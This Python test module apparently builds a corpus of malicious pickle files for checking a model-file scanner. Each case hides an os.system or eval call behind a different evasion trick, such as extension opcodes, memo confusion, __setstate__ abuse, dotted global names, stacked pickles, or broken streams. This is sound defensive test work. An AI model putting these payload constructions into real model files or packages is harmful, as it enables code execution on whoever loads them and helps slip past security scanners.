"""The same call hidden in the opcode stream: memo tricks, other call opcodes, odd names, several pickles, bad ends."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from tests.unit.evidence.corpus.opcodes import Call, Glob, emit, glob, proto, stream, text
from tests.unit.evidence.corpus.shape import Mark, Unsafe

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

CALLS = "INST, OBJ, NEWOBJ and extension codes"
MEMO = "memo confusion"
STATE = "BUILD and __setstate__"
NAMES = "odd names"
STACKED = "stacked and trailing pickles"
BROKEN = "broken streams that run first"
PROTOCOLS = "protocol 0 to 5"
PLAIN = "plain data around a call"


def system(mark: Mark) -> Call:
    """Return the call that all these streams hide."""
    return Call(Glob("posix", "system"), (mark.sh,))


def args(mark: Mark, protocol: int = 4) -> bytes:
    """Return the tuple of its arguments."""
    return emit((mark.sh,), protocol)


def put(number: int) -> bytes:
    """Return BINPUT."""
    return b"q" + bytes([number])


def get(number: int) -> bytes:
    """Return BINGET."""
    return b"h" + bytes([number])


def short(value: str) -> bytes:
    """Return SHORT_BINSTRING, the Python 2 string."""
    return b"U" + bytes([len(value)]) + value.encode()


def inst(mark: Mark) -> bytes:
    return b"(" + text(mark.sh, 0) + b"iposix\nsystem\n."


def obj(mark: Mark) -> bytes:
    return b"(" + glob("posix", "system", 1) + text(mark.sh, 1) + b"o."


def newobj(mark: Mark) -> bytes:
    partial = glob("functools", "partial") + emit((Glob("posix", "system"), mark.sh)) + b"\x81"
    return proto(4) + partial + b")R."


def newobj_ex(mark: Mark) -> bytes:
    partial = glob("functools", "partial") + emit((Glob("subprocess", "call"), mark.argv)) + emit({"shell": False})
    return proto(4) + partial + b"\x92)R."


def extension(code: bytes) -> Callable[[Mark], bytes]:
    """Return a stream that registers posix.system as extension 7 and calls it by number."""

    def make(mark: Mark) -> bytes:
        register = emit(Call(Glob("copyreg", "add_extension"), ("posix", "system", 7)), 2)
        return proto(2) + register + b"0" + code + args(mark, 2) + b"R."

    return make


def extension_unregistered(mark: Mark) -> bytes:
    return proto(2) + b"\x82\x07" + args(mark, 2) + b"R."


def persistent(mark: Mark) -> bytes:
    return proto(2) + emit(("storage", system(mark)), 2) + b"Q."


def persistent_text(mark: Mark) -> bytes:
    return proto(2) + emit(system(mark), 2) + b"0" + b"Pstorage\n."


def memo_mixed(mark: Mark) -> bytes:
    bad = text("posix") + put(0) + text("system") + put(1)
    good = text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94"
    return proto(4) + bad + good + get(0) + get(1) + b"\x93" + args(mark) + b"R."


def memo_overwritten(mark: Mark) -> bytes:
    first = text("collections") + put(0) + b"0" + text("OrderedDict") + put(1) + b"0"
    second = text("posix") + put(0) + b"0" + text("system") + put(1) + b"0"
    return proto(4) + first + second + get(0) + get(1) + b"\x93" + args(mark) + b"R."


def memo_of_tuple(mark: Mark) -> bytes:
    """Store what a POP leaves, so that the opcode before PUT is not what is stored."""
    bad = text("posix") + text("x") + b"0" + put(0) + b"0" + text("system") + text("x") + b"0" + put(1) + b"0"
    return proto(4) + bad + get(0) + get(1) + b"\x93" + args(mark) + b"R."


def memo_long(mark: Mark) -> bytes:
    bad = text("posix") + b"r" + struct.pack("<I", 70000) + b"0" + text("system") + b"p70001\n0"
    return proto(4) + bad + b"j" + struct.pack("<I", 70000) + b"g70001\n\x93" + args(mark) + b"R."


def memo_type_confusion(mark: Mark) -> bytes:
    return proto(4) + b"K\x01" + put(0) + b"0" + glob("posix", "system") + put(0) + b"0" + get(0) + args(mark) + b"R."


def memo_of_function(mark: Mark) -> bytes:
    return proto(4) + glob("posix", "system") + b"\x940" + text("collections") + b"\x940" + get(0) + args(mark) + b"R."


def strings_by_dup(mark: Mark) -> bytes:
    names = text("posix") + text("torch") + b"0" + text("system") + b"2" + b"0"
    return proto(4) + names + b"\x93" + args(mark) + b"R."


def strings_of_python2(mark: Mark) -> bytes:
    return proto(4) + short("posix") + short("system") + b"\x93" + args(mark) + b"R."


def attributes_of_a_function(mark: Mark) -> bytes:
    """Give an innocent function attributes through BUILD and take the names from there."""
    slot = emit((None, {"a": "posix", "b": "system"})) + b"b0"
    names = glob("numpy", "prod.a") + glob("numpy", "prod.b")
    return proto(4) + glob("numpy", "prod") + slot + names + b"\x93" + args(mark) + b"R."


def builtins_over_numpy(mark: Mark) -> bytes:
    """Turn numpy.size into a look-up of built-in names."""
    part = Glob("numpy", "__builtins__")
    return proto(4) + emit(Call(Glob("operator", "getitem"), (part, "eval"))) + emit((mark.py,)) + b"R."


def modules_overridden(mark: Mark) -> bytes:
    """Put builtins into sys.modules under an allowed name, then ask that name for eval."""
    modules = glob("sys", "modules") + text("torch._utils") + glob("sys", "modules.get") + emit(("builtins",)) + b"Rs0"
    return proto(4) + modules + glob("torch._utils", "eval") + emit((mark.py,)) + b"R."


def setstate(mark: Mark) -> bytes:
    made = emit(Call(Glob("types", "SimpleNamespace"), ()))
    return proto(4) + made + emit({"__setstate__": Glob("posix", "system")}) + b"b" + emit(mark.sh) + b"b."


def setstate_on_allowed_class(mark: Mark) -> bytes:
    made = emit(Call(Glob("collections", "OrderedDict"), ()))
    return proto(4) + made + emit({"__setstate__": Glob("posix", "system")}) + b"b" + emit(mark.sh) + b"b."


def setstate_of_a_module(mark: Mark) -> bytes:
    """Overwrite a function of a loaded module through the dictionary of an allowed name."""
    own = glob("collections", "OrderedDict") + emit((None, {})) + b"0"
    target = glob("collections", "abc") + emit({"__setstate__": Glob("posix", "system")}) + b"b" + emit(mark.sh) + b"b"
    return proto(4) + own + b"0" + target + b"."


def named(module: str, name: str, protocol: int = 4) -> Callable[[Mark], bytes]:
    """Return a stream that reaches os.system under another name."""
    return lambda mark: proto(protocol) + glob(module, name, protocol) + args(mark, protocol) + b"R."


def escaped_unicode(mark: Mark) -> bytes:
    return b"Vp\\u006fsix\nVsyst\\u0065m\n\x93" + args(mark, 0) + b"R."


def escaped_string(mark: Mark) -> bytes:
    return b"S'p\\x6fsix'\nS'syst\\x65m'\n\x93" + args(mark, 0) + b"R."


def globals_of_an_allowed_function(mark: Mark) -> bytes:
    part = Glob("torch._utils", "_rebuild_tensor_v2.__globals__")
    made = Call(Glob("operator", "getitem"), (part, "__builtins__"))
    return stream(Call(Call(Glob("operator", "getitem"), (made, "eval")), (mark.py,)), 4)


def second_pickle(mark: Mark) -> bytes:
    return stream({"weights": [1, 2]}, 4) + stream(system(mark), 4)


def many_before(mark: Mark) -> bytes:
    return stream({"weights": [1, 2]}, 2) * 300 + stream(system(mark), 2)


def junk_between(mark: Mark) -> bytes:
    return stream({"weights": [1, 2]}, 4) + b"\x00" * 64 + stream(system(mark), 4)


def nested_thrice(mark: Mark) -> bytes:
    inner = stream(system(mark), 4)
    for _ in range(3):
        inner = stream(Call(Glob("pickle", "loads"), (inner,)), 4)
    return inner


def unknown_opcode(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"\xff\xff."


def truncated(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark))


def stack_underflow(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"0000sssR."


def not_utf8(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"\x8c\x02\xff\xfe."


def frame_too_short(mark: Mark) -> bytes:
    return proto(4) + b"\x95" + struct.pack("<Q", 4) + b"]]00" + emit(system(mark)) + b"."


def frame_too_long(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"\x95" + struct.pack("<Q", 2**40) + b"."


def long_string_after(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"X" + struct.pack("<I", 2**31 - 1) + b"x."


def second_proto(mark: Mark) -> bytes:
    return proto(4) + b"]" + proto(0) + proto(2) + b"0" + emit(system(mark), 2) + b"."


def no_stop(mark: Mark) -> bytes:
    return proto(2) + b"}" + emit(system(mark), 2) + b"0" * 3


def among_weights(mark: Mark) -> bytes:
    return stream({"state_dict": {"layer.weight": [0, 1]}, "epoch": 3, "version": system(mark)}, 4)


def in_a_key(mark: Mark) -> bytes:
    return proto(4) + b"}" + emit(system(mark)) + emit("epoch") + b"s."


def dropped_at_once(mark: Mark) -> bytes:
    return proto(4) + emit(system(mark)) + b"0" + emit({"state_dict": {}}) + b"."


def under_a_mark(mark: Mark) -> bytes:
    return proto(4) + b"(" + emit(system(mark)) + b"1" + emit({"state_dict": {}}) + b"."


def in_a_set(mark: Mark) -> bytes:
    return proto(4) + b"\x8f(" + emit(system(mark)) + b"\x90."


def late(mark: Mark) -> bytes:
    """Hide the call behind two megabytes of numbers."""
    return proto(4) + b"](" + b"K\x01" * 10**6 + b"e0" + emit(system(mark)) + b"."


def at(protocol: int) -> Callable[[Mark], bytes]:
    """Return the plain call in one protocol."""
    return lambda mark: stream(system(mark), protocol)


ROWS: tuple[tuple[str, str, str, Callable[[Mark], bytes], str], ...] = (
    *((f"protocol-{number}", PROTOCOLS, "Python pickle documentation", at(number), "") for number in range(6)),
    ("python2-eval", PROTOCOLS, "picklescan malicious1",
     lambda mark: proto(2) + glob("__builtin__", "eval", 2) + emit((mark.py,), 2) + b"R.", ""),
    ("inst", CALLS, "picklescan#13", inst, ""),
    ("obj", CALLS, "fickling#108", obj, ""),
    ("newobj", CALLS, "modelaudit#587", newobj, ""),
    ("newobj-ex", CALLS, "modelaudit#587", newobj_ex, ""),
    ("ext1", CALLS, "Python copyreg documentation", extension(b"\x82\x07"), ""),
    ("ext2", CALLS, "Python copyreg documentation", extension(b"\x83\x07\x00"), ""),
    ("ext4", CALLS, "Python copyreg documentation", extension(b"\x84\x07\x00\x00\x00"), ""),
    ("ext1-unregistered", CALLS, "Python copyreg documentation", extension_unregistered,
     "runs only where the reader has registered a function under this number"),
    ("persid-call", CALLS, "Python pickle documentation", persistent, ""),
    ("persid-text", CALLS, "Python pickle documentation", persistent_text, ""),
    ("memo-mixed-put-memoize", MEMO, "picklescan#14", memo_mixed, ""),
    ("memo-overwritten", MEMO, "picklescan#22", memo_overwritten, ""),
    ("memo-after-pop", MEMO, "modelscan#85", memo_of_tuple, ""),
    ("memo-long-index", MEMO, "picklescan#22", memo_long, ""),
    ("memo-type-confusion", MEMO, "picklescan tests: type-confusion-exploit", memo_type_confusion, ""),
    ("memo-function", MEMO, "agent-bom#3326", memo_of_function, ""),
    ("stack-global-dup-pop", MEMO, "agent-bom#3326", strings_by_dup, ""),
    ("stack-global-python2-strings", MEMO, "modelscan#313", strings_of_python2, ""),
    ("function-attributes", STATE, "modelscan#85", attributes_of_a_function, ""),
    ("numpy-builtins", STATE, "modelscan#330", builtins_over_numpy, ""),
    ("sys-modules-overridden", STATE, "picklescan tests: sys_module_override_sploit", modules_overridden, ""),
    ("setstate", STATE, "fickling#302", setstate, ""),
    ("setstate-on-ordereddict", STATE, "torch _weights_only_unpickler: BUILD", setstate_on_allowed_class, ""),
    ("setstate-on-module", STATE, "fickling#302", setstate_of_a_module, ""),
    ("dotted-torch-os", NAMES, "huntr: proto-4 dotted global", named("torch", "serialization.os.system"), ""),
    ("dotted-collections-sys", NAMES, "own", named("collections", "_sys.modules.get"),
     "imports sys.modules.get only; the next step is the attacker's choice"),
    ("dotted-shutil-os", NAMES, "huntr: proto-4 dotted global", named("shutil", "os.system"), ""),
    ("dotted-import-posix", NAMES, "huntr: proto-4 dotted global", named("os", "sys.modules.__class__.fromkeys"),
     "shows the path, calls nothing harmful"),
    ("dotted-rebuild-globals", NAMES, "own", globals_of_an_allowed_function, ""),
    ("escaped-unicode-names", NAMES, "own", escaped_unicode, ""),
    ("escaped-string-names", NAMES, "own", escaped_string, ""),
    ("global-with-carriage-return", NAMES, "picklescan tests: malicious-invalid-bytes",
     lambda mark: b"cposix\r\nsystem\r\n" + args(mark, 0) + b"R.", "this Python keeps the carriage return in the name"),
    ("global-with-space", NAMES, "pickletools joins both lines with a space",
     lambda mark: b"cos path\nsystem\n" + args(mark, 0) + b"R.", "no module has a space in its name"),
    ("second-pickle", STACKED, "modelaudit#587", second_pickle, ""),
    ("pickle-301", STACKED, "modelaudit#587", many_before, ""),
    ("junk-then-pickle", STACKED, "modelaudit#587", junk_between, "an ordinary reader stops at the junk"),
    ("nested-three-deep", STACKED, "modelscan#267", nested_thrice, ""),
    ("unknown-opcode", BROKEN, "ReversingLabs nullifAI; picklescan broken_model", unknown_opcode, ""),
    ("truncated-after-call", BROKEN, "ReversingLabs nullifAI", truncated, ""),
    ("stack-underflow-after-call", BROKEN, "own", stack_underflow, ""),
    ("bad-utf8-after-call", BROKEN, "picklescan tests: malicious-invalid-bytes", not_utf8, ""),
    ("frame-too-short", BROKEN, "own", frame_too_short, ""),
    ("frame-too-long", BROKEN, "own", frame_too_long, ""),
    ("string-too-long-after-call", BROKEN, "picklescan broken_model", long_string_after, ""),
    ("proto-in-the-middle", BROKEN, "own", second_proto, ""),
    ("no-stop", BROKEN, "ReversingLabs nullifAI", no_stop, ""),
    ("among-weights", PLAIN, "fickling README (injection)", among_weights, ""),
    ("in-a-key", PLAIN, "fickling README (injection)", in_a_key, ""),
    ("popped-at-once", PLAIN, "fickling#302 (no unused variable)", dropped_at_once, ""),
    ("popped-with-its-mark", PLAIN, "fickling#302 (no unused variable)", under_a_mark, ""),
    ("in-a-set", PLAIN, "fickling README (injection)", in_a_set, ""),
    ("after-a-million-numbers", PLAIN, "agent-bom#3326 (size gate)", late, ""),
)  # fmt: skip


def writer(make: Callable[[Mark], bytes]) -> Callable[[Path, Mark], None]:
    """Return a writer of one stream as a bare pickle."""

    def write(path: Path, mark: Mark) -> None:
        path.write_bytes(make(mark))

    return write


def cases() -> list[Unsafe]:
    """Return one bare pickle for each trick."""
    return [
        Unsafe(f"{name}.pkl", family, source, writer(make), "" if why else "pickle", why)
        for name, family, source, make, why in ROWS
    ]
